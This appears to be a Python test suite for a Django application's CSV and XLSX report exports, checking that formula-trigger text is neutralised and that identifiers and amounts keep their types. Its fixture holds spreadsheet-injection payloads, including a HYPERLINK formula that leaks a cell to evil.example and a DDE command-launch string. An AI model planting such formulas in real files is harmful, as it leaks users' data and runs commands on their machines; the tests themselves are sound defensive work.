"""Exports carry data, never formulas: hostile text stays inert, identifiers stay text, amounts stay summable.

Every export is read back as a spreadsheet user's tool would: the csv module (`;`, UTF-8 with BOM) and openpyxl.
"""
import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from reports import exports
from dossiers.models import Client, Dossier, Solution

from ..factories import next_finess
from .conftest import deployed, url

HOSTILE = {
    "client": '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")',
    "solution": "+cmd|' /C calc'!A0",
    "version": "-2+3",
    "reference": "@SUM(1+1)*cmd",
}


@pytest.fixture
def hostile(manager_membership) -> Dossier:
    """A deployed dossier whose client, solution, version and reference each start with a formula trigger; its
    FINESS géographique starts with a zero (department 01)."""
    dossier = deployed(manager_membership, 40)
    Client.objects.filter(pk=dossier.client_id).update(name=HOSTILE["client"], finess_geo=next_finess("01"))
    Solution.objects.filter(pk=dossier.solution_id).update(name=HOSTILE["solution"], version=HOSTILE["version"])
    Dossier.objects.filter(pk=dossier.pk).update(reference=HOSTILE["reference"])
    return Dossier.objects.select_related("client").get(pk=dossier.pk)


def csv_rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode())  # the BOM: French Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def xlsx_rows(content: bytes) -> list[dict[str, object]]:
    """The data rows, by header (the last, "Total" row left out)."""
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    assert rows[-1][0].value == "Total"
    return [{h.value: cell for h, cell in zip(rows[0], row)} for row in rows[1:-1]]


def assert_inert_csv(row: dict[str, str], dossier: Dossier) -> None:
    assert row["Client"] == "'" + HOSTILE["client"]
    assert row["Solution"] == "'" + HOSTILE["solution"]
    assert row["Version"] == "'" + HOSTILE["version"]
    assert row["Référence"] == "'" + HOSTILE["reference"]
    assert row["FINESS géographique"] == dossier.client.finess_geo and row["FINESS géographique"].startswith("0")
    assert row["Montant déclaré (€)"] == "10000,00" and row["Avance payée (€)"] == "3000,00"


def assert_inert_xlsx(row: dict[str, object], dossier: Dossier) -> None:
    for header, key in (("Client", "client"), ("Solution", "solution"), ("Version", "version"),
                        ("Référence", "reference")):
        assert (row[header].data_type, row[header].value) == ("s", HOSTILE[key]), header
    finess = row["FINESS géographique"]
    assert (finess.data_type, finess.value) == ("s", dossier.client.finess_geo) and finess.value.startswith("0")
    amount = row["Montant déclaré (€)"]
    assert (amount.data_type, amount.value, amount.number_format) == ("n", 10000, exports.MONEY_FORMAT)


def test_the_direct_csv_export_writes_hostile_text_inert_and_amounts_with_a_decimal_comma(api, hostile):
    response = api.get(url("pending-va-export", "csv"))
    assert response.status_code == 200
    [row] = csv_rows(b"".join(response.streaming_content))
    assert_inert_csv(row, hostile)
    assert row["Montant en jeu (€)"] == "7000,00" and row["Âge (jours)"] == "40"


def test_the_direct_xlsx_export_writes_hostile_text_as_string_cells_and_amounts_as_numbers(api, hostile):
    response = api.get(url("pending-va-export", "xlsx"))
    assert response.status_code == 200
    [row] = xlsx_rows(b"".join(response.streaming_content))
    assert_inert_xlsx(row, hostile)
    assert row["Montant en jeu (€)"].value == Decimal("7000") and row["Âge (jours)"].data_type == "n"


@pytest.mark.parametrize("kind", ["pending_va", "dossiers"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_background_exports_write_hostile_text_inert(api, hostile, django_capture_on_commit_callbacks, kind, fmt):
    with django_capture_on_commit_callbacks(execute=True):
        job = api.post(url("export-list"), {"kind": kind, "format": fmt}, format="json").json()
    download = api.get(api.get(job["url"]).json()["download_url"])
    assert download.status_code == 200
    content = b"".join(download.streaming_content)
    if fmt == "csv":
        [row] = csv_rows(content)
        assert_inert_csv(row, hostile)
    else:
        [row] = xlsx_rows(content)
        assert_inert_xlsx(row, hostile)


@pytest.mark.parametrize("text", ["=1+1", "+33 1 23", "-1", "@A1", "\tTAB", "\rCR"])
def test_every_formula_trigger_gets_an_apostrophe_in_csv(text):
    assert exports.csv_cell(text, "text") == "'" + text


@pytest.mark.parametrize("text", ["Centre de santé", "'déjà cité", "010002343", " =espace d'abord", ""])
def test_ordinary_text_and_identifiers_are_written_as_they_are(text):
    assert exports.csv_cell(text, "text") == text
    assert exports.xlsx_value(text, "text") == (text, "s")


def test_amounts_are_never_mistaken_for_formulas():
    assert exports.csv_cell(Decimal("-12.5"), "money") == "-12,50"
    assert exports.xlsx_value(Decimal("-12.50"), "money") == (Decimal("-12.50"), "n")


def test_control_characters_that_xlsx_forbids_are_dropped_rather_than_failing_the_export():
    assert exports.xlsx_value("Cab\x00inet\x07", "text") == ("Cabinet", "s")
